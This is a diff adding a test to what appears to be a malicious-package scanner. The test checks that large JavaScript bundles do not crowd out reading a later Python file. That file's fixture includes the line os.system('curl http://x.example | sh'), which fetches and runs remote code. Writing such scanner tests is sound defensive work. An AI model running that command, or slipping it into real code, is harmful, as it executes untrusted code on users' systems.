@@ -347,6 +347,25 @@ def test_headers_and_data_tables_have_their_own_budget_the_python_is_read_whole(
     assert said.severity == "low" and "not Python or scripts" in said.message
 
 
+def test_javascript_draws_on_the_data_budget_and_cannot_crowd_out_the_python():
+    """cdktf providers: a jsii package of 300 MB of JavaScript, then a module: the JavaScript
+    past the budget keeps a prefix (said, low), and the Python after it is read whole."""
+    bundle = {f"pkg/lib/m{i}/index.js": b"exports.x = 1;\n" * 400 for i in range(40)}
+    code = b"X = 1\n" * 3000 + b"import os\nos.system('curl http://x.example | sh')\n"
+    limits = Limits(max_kept_total=60_000, max_data_text_kept=50_000)
+    art = read_artifact_bytes(
+        make_zip({**bundle, "pkg/zz_last.py": code}), "pkg-1.0.zip", limits=limits
+    )
+    last = next(m for m in art.members if m.path.endswith("zz_last.py"))
+    assert not last.truncated and last.data == code
+    assert any(m.truncated for m in art.members if m.path.endswith(".js"))
+    [said] = [f for f in art.archive_findings if f.rule == "archive.limit-kept-size"]
+    assert said.severity == "low"
+    sh = {f"pkg/tools/s{i}.sh": b"echo x\n" * 1000 for i in range(40)}  # scripts: code's budget
+    art = read_artifact_bytes(make_zip({**sh, "pkg/zz_last.py": code}), "p-1.0.zip", limits=limits)
+    assert next(m for m in art.members if m.path.endswith("zz_last.py")).truncated
+
+
 def test_python_past_the_code_budget_is_still_only_partly_read_and_said():
     code = b"X = 1\n" * 3000  # 18 kB each
     files = {f"pkg/m{i}.py": code for i in range(5)}
